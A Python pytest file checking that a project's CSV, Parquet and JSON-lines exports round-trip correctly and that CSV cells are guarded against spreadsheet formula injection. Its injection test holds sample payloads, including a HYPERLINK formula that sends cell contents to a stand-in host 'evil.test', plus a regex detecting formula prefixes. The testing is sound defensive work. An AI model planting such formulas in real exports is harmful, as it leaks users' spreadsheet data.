"""Rows as CSV, Parquet and JSON lines: what is written is what is read back, by other programs than ours."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flywheel.exports import csv as ours
from flywheel.exports import jsonl, parquet
from flywheel.exports.files import Format, written
from flywheel.exports.tables import DATASET, SAMPLES, SCORES, Column

ROOT = Path(__file__).parents[2]
COLUMNS = (
    Column("name", "text", "a name"),
    Column("count", "integer", "a count"),
    Column("share", "number", "a share"),
    Column("fine", "truth", "whether"),
    Column("body", "json", "anything"),
)
FULL = {"name": 'a, "b"\nc', "count": 3, "share": -0.5, "fine": True, "body": {"a": [1, None]}}
EMPTY: dict[str, Any] = {}


def content(rows: list[dict[str, Any]], form: Format) -> bytes:
    return b"".join(written(COLUMNS, rows, form))


def test_csv_is_read_back_as_it_was() -> None:
    found = list(csv.DictReader(io.StringIO(content([FULL, EMPTY], "csv").decode(), newline="")))
    assert found[0] == {
        "name": FULL["name"],
        "count": "3",
        "share": "-0.5",
        "fine": "true",
        "body": '{"a": [1, null]}',
    }
    assert set(found[1].values()) == {""}


def test_csv_and_parquet_are_the_same_table_to_pandas() -> None:
    rows = [FULL, EMPTY, FULL | {"name": "Zürich 東京", "share": 2.0}]
    from_csv = pd.read_csv(io.BytesIO(content(rows, "csv")))
    from_parquet = pd.read_parquet(io.BytesIO(content(rows, "parquet")))
    assert list(from_csv.columns) == list(from_parquet.columns) == [column.name for column in COLUMNS]
    for column in ("name", "body"):
        assert from_csv[column].fillna("").tolist() == from_parquet[column].fillna("").tolist()
    for column in ("count", "share"):
        assert from_csv[column].fillna(-1).tolist() == from_parquet[column].fillna(-1).tolist()


def test_json_lines_keep_what_is_nested() -> None:
    first, second = (json.loads(line) for line in content([FULL, EMPTY], "jsonl").splitlines())
    assert first == FULL
    assert second == dict.fromkeys(column.name for column in COLUMNS)


def test_parquet_has_types_and_says_what_a_column_means() -> None:
    schema = pq.read_schema(io.BytesIO(content([FULL], "parquet")))
    assert [str(field.type) for field in schema] == ["string", "int64", "double", "bool", "string"]
    assert schema.field("share").metadata == {b"meaning": b"a share"}


@pytest.mark.parametrize("form", ["csv", "parquet", "jsonl"])
def test_a_table_without_rows_is_a_table(form: Format) -> None:
    found = content([], form)
    if form == "csv":
        assert found == b"name,count,share,fine,body\r\n"
    elif form == "parquet":
        assert pq.read_table(io.BytesIO(found)).num_rows == 0
    else:
        assert found == b""


def test_many_rows_leave_in_pieces_before_the_last_one_is_made() -> None:
    made: list[int] = []

    def rows() -> Any:
        for number in range(5000):
            made.append(number)
            yield {"name": "x" * 100, "count": number}

    for form in ("csv", "parquet"):
        made.clear()
        pieces = written(COLUMNS, rows(), form)
        assert next(pieces)
        assert len(made) < 3000
        rest = b"".join(pieces)
        assert len(made) == 5000
        assert rest
    table = pq.read_table(io.BytesIO(b"".join(parquet.encoded(COLUMNS, rows()))))
    assert table["count"].to_pylist() == list(range(5000))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.test?"&A1,"click")',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "  =1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "\u00a0=1",
    ],
)
def test_no_text_reaches_a_spreadsheet_as_a_formula(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(content([{"name": text}], "csv").decode(), newline=""))
    assert row["name"] == f"'{text}"
    assert json.loads(content([{"name": text}], "jsonl"))["name"] == text  # Only spreadsheets need it.


@given(st.text())
def test_whatever_a_text_is_its_cell_begins_no_formula(text: str) -> None:
    cell = ours.guarded(text)
    assert cell.removeprefix("'") == text.removeprefix("'")
    assert not re.match(r"\s*[=+\-@＝＋－＠﹢﹣﹫⁺₊⁻₋⁼₌]", cell)  # noqa: RUF001


def test_numbers_are_never_guarded() -> None:
    assert content([{"share": -0.5, "count": -3}], "csv").splitlines()[1] == b",-3,-0.5,,"


def test_a_name_in_json_cannot_begin_a_cell() -> None:
    (row,) = csv.DictReader(io.StringIO(content([{"body": "=1"}], "csv").decode()))
    assert row["body"] == '"=1"'


def test_half_a_surrogate_pair_and_numbers_that_json_does_not_have() -> None:
    row = {"name": "a\ud800b", "share": float("nan"), "body": {"x": float("inf"), "y": "\udfff"}}
    assert b"a\\ud800b" in content([row], "csv")
    assert pq.read_table(io.BytesIO(content([row], "parquet")))["name"].to_pylist() == ["a\\ud800b"]
    found = json.loads(content([row], "jsonl"))
    assert found["name"] == "a\ud800b"
    assert found["share"] is None
    assert found["body"] == {"x": None, "y": "\udfff"}
    assert jsonl.text_of({"a": (float("nan"), 1)}) == '{"a": [null, 1]}'


def test_every_column_is_in_the_documentation() -> None:
    page = (ROOT / "docs" / "exports.md").read_text("utf-8")
    for columns in (SCORES, SAMPLES, DATASET):
        for column in columns:
            assert f"| `{column.name}` | {column.type} | {column.meaning} |" in page
